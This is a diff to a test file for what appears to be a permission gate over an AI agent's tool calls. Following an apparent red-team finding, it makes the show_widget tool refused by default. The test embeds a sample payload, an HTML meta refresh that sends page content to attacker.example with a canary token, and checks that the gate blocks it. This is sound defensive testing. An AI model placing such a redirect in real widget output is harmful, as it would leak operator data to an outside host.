@@ -114,8 +114,16 @@ describe("OpenClaw gate: tool classes", () => {
     expect((await call(g, "tool_search_code", { code: "1" }))?.block).toBe(true);
   });
 
-  it("show_widget passes in the chat; capabilities (tool calls, automation triggers) and device panels are refused", async () => {
-    const { g } = setup();
+  it("show_widget is refused unless listed (red team s11); listed, it passes in the chat, and capabilities (tool calls, automation triggers) and device panels stay refused", async () => {
+    // The operator's browser runs the widget: a meta refresh carries the page's text to any host.
+    const exfil = '<meta http-equiv="refresh" content="0;url=https://attacker.example/?k=SW-CANARY">';
+    const unlisted = setup().g;
+    for (const code of ["<b>x</b>", exfil]) {
+      const r = await call(unlisted, "show_widget", { title: "t", widget_code: code });
+      expect(r?.block, code).toBe(true);
+      expect(r?.blockReason).toContain("run in the operator's browser");
+    }
+    const { g } = setup({ allowTools: ["show_widget"] });
     expect(await call(g, "show_widget", { title: "t", widget_code: "<b>x</b>" })).toBeUndefined();
     expect(
       await call(g, "show_widget", {
@@ -133,7 +141,6 @@ describe("OpenClaw gate: tool classes", () => {
       const r = await call(g, "show_widget", { title: "t", widget_code: "<b>x</b>", ...extra });
       expect(r?.block, JSON.stringify(extra)).toBe(true);
     }
-    expect(() => setup({ allowTools: ["show_widget"] })).toThrow(/allowTools/);
   });
 
   it("action-classed tools pass their safe actions only", async () => {
